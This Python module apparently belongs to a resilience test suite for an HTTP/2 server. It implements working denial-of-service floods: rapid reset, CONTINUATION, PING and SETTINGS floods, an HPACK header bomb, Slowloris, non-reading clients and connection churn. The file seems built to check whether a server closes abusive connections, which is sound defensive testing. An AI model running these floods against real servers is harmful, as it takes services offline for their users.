"""Floods: what a hostile client can do for a while. Each opens a new connection when the server has closed the last one,
and answers how often that happened."""

import functools
import struct
import time

from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, PRIORITY, RESET, SETTINGS, WINDOW,
                   Wire, connect, field, frame, message, request_block, text)
from probe import PUT_PATH, RANGE

BIG = b"\x0a\x03big"


class Flood:
    def __init__(self, name, run, must_close, is_hostile=True):
        """`run(address, seconds, source)`: against whom, how long, and the address it comes from; `must_close`: whether the
        server has to end such a connection; not hostile: it is load, and others wait as under any load."""
        self.name, self.run, self.must_close, self.is_hostile = name, run, must_close, is_hostile


def put_big(address):
    """A value large enough that clients which do not read it are a burden. Whether it was put."""
    wire = Wire(address)
    body = message(BIG + b"\x12" + b"\x80\x80\x04" + b"x" * (64 << 10))
    wire.send(frame(WINDOW, 0, 0, struct.pack(">I", 1 << 20)) + frame(HEADERS, END_HEADERS, 1, request_block(PUT_PATH)))
    for at in range(0, len(body), 16_384):
        # The window opens again when the first bytes have been taken.
        wire.wait_for({WINDOW}, 0.05)
        wire.send(frame(DATA, END_STREAM if at + 16_384 >= len(body) else 0, 1, body[at : at + 16_384]))
    answered = (wire.answer(1) or ("",))[0] == "answer"
    wire.close()
    return answered


# MARK: Bytes over and over

def flooding(data, opening=b"", connections=1, leaves=False):
    """A flood that sends the bytes over and over, on so many connections at once; `data` may be a function of a counter.
    What it answers is remembered: the attacker's time should be the server's, not its own. One that `leaves` waits for no
    end: it begins anew as soon as it reads GOAWAY."""
    bytes_of = functools.cache(data) if callable(data) else lambda count: data

    def run(address, seconds, source):
        deadline, closed, open_wires = time.monotonic() + seconds, 0, []
        while time.monotonic() < deadline:
            while len(open_wires) < connections:
                try:
                    wire = Wire(address, timeout=1, source=source)
                except OSError:
                    time.sleep(0.01)
                    break
                wire.send(opening)
                open_wires.append((wire, iter(range(1 << 20))))
            for wire, counter in open_wires:
                if wire.is_still_open():
                    wire.send(bytes_of(next(counter)))
                if leaves and wire.is_unwanted:
                    wire.is_open = False
            closed += sum(not wire.is_open for wire, _ in open_wires)
            for wire, _ in open_wires:
                if not wire.is_open:
                    wire.close()
            open_wires = [pair for pair in open_wires if pair[0].is_open]
        for wire, _ in open_wires:
            wire.close()
        return closed

    return run


def visiting(data):
    """Connections that say so much, wait until it has been heard, and leave."""
    data += frame(PING, 0, 0, b"12345678")

    def run(address, seconds, source):
        deadline, visits = time.monotonic() + seconds, 0
        while time.monotonic() < deadline:
            try:
                wire = Wire(address, source=source)
            except OSError:
                time.sleep(0.01)
                continue
            wire.send(data)
            wire.wait_for({PING, GOAWAY}, deadline - time.monotonic())
            wire.close()
            visits += 1
        return visits

    return run


def streams(count, each, number=100):
    """What `each` says of a stream, for the next hundred of them, or so many."""
    return b"".join(each(1 + 2 * stream) for stream in range(100 * count, 100 * count + number))


def rapid_resets(count, number=100):
    return streams(count, number=number, each=lambda stream: frame(HEADERS, END_HEADERS, stream, request_block())
                   + frame(RESET, 0, stream, b"\0\0\0\x08"))


def provoked_resets(count, number=100):
    """Streams that the server has to reset: a window update of 0."""
    return streams(count, number=number, each=lambda stream: frame(HEADERS, END_HEADERS, stream, request_block())
                   + frame(WINDOW, 0, stream, b"\0\0\0\0"))


def unfinished(count):
    return streams(count, lambda stream: frame(HEADERS, END_HEADERS, stream, request_block(PUT_PATH)))


def header_bomb(count):
    """Header blocks that grow by references into the table: 4 KiB once, then 60 references of a byte each."""
    bomb = b"\x40" + text("x") + text("y" * 4000) + b"\xbe" * 60
    return frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * count, bomb)


# MARK: Connections that misbehave by what they do not do

def ranges(key, first=1):
    return b"".join(frame(HEADERS, END_HEADERS, stream, request_block()) + frame(DATA, END_STREAM, stream, message(key))
                    for stream in range(first, first + 200, 2))


def deaf(address, seconds, source):
    """Clients that let windows of 0 be, and never read: 100 large ranges each, at most 40 of them at a time."""
    deadline, wires = time.monotonic() + seconds, []
    requests = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + ranges(BIG)
    while time.monotonic() < deadline:
        wire = Wire(address, handshake=False, source=source)
        wire.send(requests)
        wires.append(wire)
        if len(wires) > 40:
            wires.pop(0).close()
        time.sleep(0.005)
    for wire in wires:
        wire.close()
    return 0


def slow(address, seconds, source):
    """Slowloris: 300 connections that have said a little, each in another state, and say a byte now and then."""
    begun = [b"", b"P", PREFACE[:20], PREFACE, PREFACE + frame(SETTINGS)[:5],
             PREFACE + frame(SETTINGS) + frame(HEADERS, 0, 1, request_block()),
             PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, request_block(PUT_PATH))
             + frame(DATA, 0, 1, message(b"x", claimed=1 << 20)), b"GET /health HTTP/1.1\r\nhost: x\r\n"]
    wires = []
    for number in range(300):
        wire = Wire(address, handshake=False, source=source)
        wire.send(begun[number % len(begun)])
        wires.append(wire)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        time.sleep(0.1)
        for wire in wires:
            if wire.is_open:
                wire.send(b"\0")
    for wire in wires:
        wire.close()
    return 0


def churn(address, seconds, source):
    """Connections that come and go without a word."""
    deadline, count = time.monotonic() + seconds, 0
    while time.monotonic() < deadline:
        try:
            connect(address, timeout=1, source=source).close()
        except OSError:
            pass
        count += 1
    return count


def greedy(address, seconds, source):
    """A client that keeps to every rule and asks a hundred times at once, again and again."""
    deadline, wire, first = time.monotonic() + seconds, None, 1
    while time.monotonic() < deadline:
        if wire is None or first > 100_000:
            wire, first = Wire(address, source=source), 1
            wire.send(frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)))
        wire.send(ranges(RANGE, first))
        left = 100
        for kind, flags, _, _ in wire.frames(5):
            left -= kind == HEADERS and bool(flags & END_STREAM)
            if left == 0:
                break
        if not wire.is_open:
            wire = None
        first += 200
    if wire:
        wire.close()
    return 0


FLOODS = [
    Flood("rapid reset", flooding(rapid_resets), True),
    Flood("rapid reset on 30 connections", flooding(rapid_resets, connections=30), True),
    Flood("resets provoked by bad frames", flooding(provoked_resets), True),
    Flood("rapid reset by one that leaves", flooding(rapid_resets, leaves=True), True),
    Flood("rapid reset by 30 that leave", flooding(rapid_resets, connections=30, leaves=True), True),
    Flood("provoked resets by one that leaves", flooding(provoked_resets, leaves=True), True),
    Flood("PING by one that leaves", flooding(frame(PING, 0, 0, b"12345678") * 500, leaves=True), True),
    Flood("visits of 60 resets", visiting(rapid_resets(0, 60)), False),
    Flood("visits of 19 provoked resets", visiting(provoked_resets(0, 19)), False),
    Flood("CONTINUATION", flooding(frame(CONTINUATION, 0, 1, field("x", "y" * 1000)) * 10,
                                   opening=frame(HEADERS, 0, 1, request_block())), True),
    Flood("empty CONTINUATION", flooding(frame(CONTINUATION, 0, 1) * 500,
                                         opening=frame(HEADERS, 0, 1, request_block())), True),
    Flood("PING", flooding(frame(PING, 0, 0, b"12345678") * 500), True),
    Flood("PING on 30 connections", flooding(frame(PING, 0, 0, b"12345678") * 500, connections=30), True),
    Flood("SETTINGS", flooding(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500), True),
    Flood("empty DATA", flooding(frame(DATA, 0, 1) * 500, opening=frame(HEADERS, END_HEADERS, 1, request_block(PUT_PATH))),
          True),
    Flood("PRIORITY", flooding(frame(PRIORITY, 0, 3, b"\0\0\0\0\0") * 500), True),
    Flood("WINDOW_UPDATE", flooding(frame(WINDOW, 0, 1, b"\0\0\0\1") * 500,
                                    opening=frame(HEADERS, END_HEADERS, 1, request_block(PUT_PATH))), True),
    Flood("unknown frames", flooding(frame(99, 0, 0, b"x" * 100) * 500), True),
    Flood("header bombs", flooding(header_bomb), True),
    Flood("streams without an end", flooding(unfinished), True),
    Flood("clients that do not read", deaf, False),
    Flood("slow clients", slow, False),
    Flood("connections that come and go", churn, False),
    Flood("a greedy client", greedy, False, is_hostile=False),
]
